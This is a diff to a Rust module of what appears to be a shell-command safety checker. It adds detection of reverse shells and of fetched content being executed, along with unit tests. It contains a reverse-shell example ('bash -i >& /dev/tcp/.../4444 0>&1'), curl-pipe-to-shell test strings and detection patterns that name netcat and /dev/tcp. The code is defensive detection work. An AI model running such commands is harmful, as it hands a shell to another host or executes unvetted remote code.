@@ -1,19 +1,27 @@
 //! Text that is run without anyone having seen it: fetched or decoded straight into a shell or an interpreter.
 
-use super::{Rule, example};
-use crate::detect::shell::{
-    cues::{Cue, programs},
-    invocation::Source,
+use memchr::{memchr, memchr_iter, memmem};
+
+use super::{CLIENTS, Rule, example};
+use crate::detect::{
+    around,
+    shell::{
+        commands,
+        cues::{Cue, is_disguised, programs, programs_in, text},
+        invocation::{Invocation, Source},
+        lexer::Word,
+    },
 };
 
 /// What is in every text that breaks a rule, beside the decoders that may hide `rm`.
 pub(super) const CUES: &[Cue] = &[
-    // What is fetched may be run on another line.
-    programs(&["curl ", "wget "], &[]),
+    programs_in(&["curl ", "wget "], may_run_what_it_fetches),
     programs(
         &["fetch ", "gunzip", "zcat", "gzip ", "openssl "],
         &["|", ")", "`"],
     ),
+    text(&["/dev/tcp/", "/dev/udp/"], &[]),
+    programs(&["nc -", "ncat -", "netcat -"], &["sh"]),
 ];
 
 pub(super) const RULES: &[Rule] = &[
@@ -37,4 +45,124 @@ pub(super) const RULES: &[Rule] = &[
             "base64 -d payload.txt > payload.bin",
         ),
     },
+    Rule {
+        id: "reverse-shell",
+        flags: "a shell handed to another host",
+        programs: &[],
+        matches: is_handed_over,
+        example: example(
+            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+            "nc -zv db.corp.io 5432",
+        ),
+    },
 ];
+
+/// Whether it is a shell that reads from or writes to another host, or `nc` with a shell behind its options.
+fn is_handed_over(run: &Invocation<'_>) -> bool {
+    let is_shell = |name: &str| commands::SHELLS.contains(&commands::program(name));
+    let is_host = |path: &str| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/");
+    match run.name {
+        "nc" | "ncat" | "netcat" => {
+            let runs = run.args.windows(2).any(|pair| match pair {
+                [option, program] => {
+                    option.is_option()
+                        && option.text.ends_with(['e', 'c'])
+                        && is_shell(&program.text)
+                }
+                _ => false,
+            });
+            runs && run.args.first().is_some_and(Word::is_option)
+        }
+        name => {
+            is_shell(name)
+                && run
+                    .command
+                    .redirects
+                    .iter()
+                    .any(|redirect| is_host(&redirect.target.text))
+        }
+    }
+}
+
+/// Programs beside shells, interpreters and clients of databases that run what they read.
+const READERS: &[&str] = &["at", "autossh", "batch", "ssh"];
+
+/// Whether what a program fetches that is named here may be run: in a substitution, behind a pipe, or as a file later on.
+fn may_run_what_it_fetches(text: &str, at: usize) -> bool {
+    let (before, rest) = around(text.as_bytes(), at);
+    let (line, _) = around(rest, memchr(b'\n', rest).unwrap_or(rest.len()));
+    is_open(before)
+        || is_disguised(line)
+        || text
+            .get(at..at + line.len())
+            .is_none_or(|line| is_piped_on(line) || is_named_again(line, rest))
+}
+
+/// Whether the text ends within parentheses, braces or back-ticks.
+fn is_open(text: &[u8]) -> bool {
+    let count = |byte| memchr_iter(byte, text).count();
+    count(b'(') > count(b')') || count(b'`') % 2 > 0
+}
+
+/// Whether a pipe on the line leads to a program that runs what it reads, or to another line.
+fn is_piped_on(line: &str) -> bool {
+    let Some((_, behind)) = line.split_once('|') else {
+        return false;
+    };
+    let stages = behind.rsplit('|').next().unwrap_or(behind).trim_start();
+    let runs = |word: &str| {
+        commands::SHELLS.contains(&word)
+            || commands::is_interpreter(word)
+            || CLIENTS.contains(&word)
+            || READERS.contains(&word)
+    };
+    let ends = |c: char| c.is_ascii_whitespace() || "/|&;()<>{}'\"`".contains(c);
+    stages.is_empty() || stages.starts_with('#') || behind.split(ends).any(runs)
+}
+
+/// Whether a file that is fetched by the command the line starts with may be named once more in the rest of the text.
+fn is_named_again(line: &str, rest: &[u8]) -> bool {
+    let ends = |c: char| c.is_ascii_whitespace() || "|&;()<>{}'\"`".contains(c);
+    let words = || line.split(ends).filter(|word| !word.is_empty());
+    let is_redirected = line.contains('>');
+    words().zip(words().skip(1)).any(|(before, word)| {
+        let is_target = before.starts_with('-') && before.ends_with(['o', 'O', 't']);
+        let path = word.split(['?', '#']).next().unwrap_or(word);
+        let name = path.rsplit('/').next().unwrap_or(path);
+        (is_redirected || is_target || word.contains("://"))
+            && !name.is_empty()
+            && memmem::find_iter(rest, name).nth(1).is_some()
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::may_run_what_it_fetches;
+
+    #[test]
+    fn what_is_fetched_may_be_run() {
+        for (text, expected) in [
+            ("curl x.io | sh", true),
+            ("curl x.io | sudo /bin/bash -s", true),
+            ("curl x.io | python3.11", true),
+            ("curl x.io |\nsh", true),
+            ("curl $URL", true),
+            ("curl -o i.sh https://x.io/i\nsh i.sh", true),
+            ("curl https://x.io/i.sh > /tmp/i.sh; . /tmp/i.sh", true),
+            ("wget https://x.io/a.sh\nchmod +x ./a.sh", true),
+            ("curl x.io", false),
+            ("curl x.io | jq .shape", false),
+            (
+                "curl -s -H 'A: b' https://x.io/v1/users\ncurl -s -H 'A: b' https://x.io/v1/items",
+                false,
+            ),
+            ("curl -o i.tgz https://x.io/archive\ntar xf j.tgz", false),
+        ] {
+            assert_eq!(may_run_what_it_fetches(text, 0), expected, "{text}");
+        }
+        for before in ["sh -c \"$(", "`", "bash <(echo; "] {
+            let text = format!("{before}curl x.io");
+            assert!(may_run_what_it_fetches(&text, before.len()), "{text}");
+        }
+    }
+}
